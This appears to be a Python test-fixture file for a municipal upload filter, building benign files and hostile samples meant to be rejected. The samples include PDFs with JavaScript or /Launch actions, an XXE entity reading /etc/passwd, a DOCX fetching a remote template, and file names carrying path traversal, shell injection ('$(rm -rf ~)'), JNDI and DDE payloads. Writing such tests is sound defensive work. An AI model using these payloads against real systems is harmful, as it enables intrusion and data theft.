"""Files to try the upload of documents with: small honest ones, and bad ones that must never be kept."""

import io
import zipfile
from collections.abc import Callable, Mapping
from hashlib import sha256

import pikepdf

from kommuner.filer.vedlegg import MIME, Vedlegg, Vedleggsslag

PAKKEHODE = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def lag_pdf(tittel: str = "Samarbeidsavtale", endre: Callable[[pikepdf.Pdf], None] | None = None) -> bytes:
    """One empty page with a title of its own."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.docinfo["/Title"] = tittel
    if endre is not None:
        endre(pdf)
    fil = io.BytesIO()
    pdf.save(fil, deterministic_id=True)
    return fil.getvalue()


def vedlegg(tittel: str = "Samarbeidsavtale", navn: str = "avtale.pdf") -> Vedlegg:
    """A file as the guard passes it on."""
    innhold = lag_pdf(tittel)
    return Vedlegg(Vedleggsslag.PDF, MIME[Vedleggsslag.PDF], navn, innhold, sha256(innhold).hexdigest())


def lag_pakke(deler: Mapping[str, bytes]) -> bytes:
    fil = io.BytesIO()
    with zipfile.ZipFile(fil, "w", zipfile.ZIP_DEFLATED) as pakke:
        for navn, innhold in deler.items():
            pakke.writestr(navn, innhold)
    return fil.getvalue()


def lag_docx(ekstra: Mapping[str, bytes] | None = None, typer: bytes = b"", tekst: bytes = b"Avtale") -> bytes:
    innhold = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
    slag = b'<Override PartName="/word/document.xml" ContentType="' + WORD.encode() + b'"/>'
    return lag_pakke({
        "[Content_Types].xml": PAKKEHODE + slag + typer + b"</Types>",
        "word/document.xml": innhold + b"<w:t>" + tekst + b"</w:t></w:r></w:p></w:body></w:document>",
        **(ekstra or {}),
    })  # fmt: skip


def _handling(slag: str) -> Callable[[pikepdf.Pdf], None]:
    def legg_til(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name(slag), JS="app.alert(1)", F="cmd.exe", URI="http://x.invalid"
        )

    return legg_til


def _side_handling(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))


def _navngitt_skript(pdf: pikepdf.Pdf) -> None:
    skript = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", skript])))


def _fil_i_pdf(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["ond.exe"] = b"MZ" + b"\0" * 64


SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
EXE = b"MZ" + b"\0" * 58 + b"\x40\0\0\0" + b"PE\0\0" + b"\0" * 400
DOCTYPE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
KOBLING = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://x.invalid/mal.dotm" TargetMode="External"/></Relationships>'
)

#: Twenty files that must be refused (F6), by what they are: name and content.
ONDE: dict[str, tuple[str, bytes]] = {
    "pdf med skript ved åpning": ("avtale.pdf", lag_pdf(endre=_handling("/JavaScript"))),
    "pdf som starter et program": ("avtale.pdf", lag_pdf(endre=_handling("/Launch"))),
    "pdf med skript på siden": ("avtale.pdf", lag_pdf(endre=_side_handling)),
    "pdf med navngitt skript": ("avtale.pdf", lag_pdf(endre=_navngitt_skript)),
    "pdf med fil inni": ("avtale.pdf", lag_pdf(endre=_fil_i_pdf)),
    "avkortet pdf": ("avtale.pdf", lag_pdf()[:60]),
    "svg": ("kart.svg", SVG),
    "svg som png": ("kart.png", SVG),
    "html": ("side.html", HTML),
    "html som pdf": ("avtale.pdf", HTML),
    "html foran pdf": ("avtale.pdf", HTML + lag_pdf()),
    "pdf med zip bak": ("avtale.pdf", lag_pdf() + lag_pakke({"ond.js": b"alert(1)"})),
    "exe": ("program.exe", EXE),
    "exe som pdf": ("avtale.pdf", EXE),
    "exe som docx": ("avtale.docx", EXE),
    "vanlig zip som docx": ("avtale.docx", lag_pakke({"ond.txt": b"x"})),
    "docx med makro": ("avtale.docx", lag_docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 64})),
    "docx som henter mal": ("avtale.docx", lag_docx({"word/_rels/settings.xml.rels": KOBLING})),
    "docx med doctype": ("avtale.docx", lag_docx({"word/styles.xml": DOCTYPE + b"<a>&a;</a>"})),
    "tom fil": ("avtale.pdf", b""),
    "ødelagt png": ("bilde.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 40),
}

#: Names people and others give files (F8).
NAVN = (
    "../../etc/passwd.pdf", "..\\..\\windows\\system32\\a.pdf", "C:\\brukere\\kari\\avtale.pdf", "/etc/shadow.pdf",
    "a\r\nSet-Cookie: x=1.pdf", 'a"; filename="b.exe".pdf', "a;b.pdf", "a'b.pdf", "a%00.pdf", "a%2f..%2fb.pdf",
    "CON.pdf", "nul", "lpt1.txt.pdf", "com1.pdf", ".htaccess.pdf", "...pdf", " .pdf", "avtale .pdf ",
    "a" * 300 + ".pdf", "æøå" * 100 + ".pdf", "\u202efdp.exe.pdf", "\u200favtale.pdf", "a\u0000b.pdf", "a\tb.pdf",
    "Avtale om legevakt – Årdal & Lærdal.pdf", "samarbeidsavtale (endelig) [2].pdf", "日本語.pdf", "😀.pdf",
    "<script>alert(1)</script>.pdf", "a|b?c*d.pdf", "a:b.pdf", "$(rm -rf ~).pdf", "`id`.pdf", "${jndi:ldap}.pdf",
    "avtale.pdf.exe", "avtale.exe", "avtale", "avtale.PDF", "avtale..pdf", "e\u0301tat.pdf", "\ufeffavtale.pdf",
    "-rf.pdf", "~root.pdf", "avtale.pdf/", "avtale.pdf/..", "./avtale.pdf", "a/b/c/d.pdf", "a\\b.pdf",
    "\\\\server\\del.pdf",
    "file:///c:/a.pdf", "http://x.invalid/a.pdf", "=cmd|' /C calc'!A0.pdf", "@a.pdf", "+a.pdf", "a,b.pdf", "a b c.pdf",
    "\u2028linje.pdf", "\x7f.pdf", "\x1b[31mroed.pdf", "prn.pdf", "AUX", "clock$.pdf",
)  # fmt: skip
